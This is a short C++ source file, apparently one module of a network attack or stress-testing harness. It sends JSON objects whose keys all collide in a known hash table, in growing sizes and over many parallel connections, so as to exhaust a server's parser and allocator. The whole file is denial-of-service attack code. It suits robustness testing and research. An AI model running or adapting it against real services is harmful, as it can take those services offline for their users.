// Objects whose keys all fall into few buckets of a hash table that the sender knows.
#include "attack/colliding_keys.hpp"
#include "attack/clients.hpp"

namespace attack {

// Each body is larger than the one before, so the allocator maps a new table for it: at a known offset in a page.
void colliding_keys(Field& field) {
    field.in_parallel([&](int) {
        Wire wire = field.connect();
        for (const std::size_t pages : {13U, 26U, 52U, 104U}) {
            const std::string object = "{\"a\":1,\"b\":2," + colliding_members(pages * 4096 - 2) + "}";
            const bool sent = wire.send(modern_call("add", object, field.credentials), field.until);
            if (!sent || wire.read(field.until).status == 0) return field.keep(std::move(wire));
            field.count();
        }
    });
}

}  // namespace attack
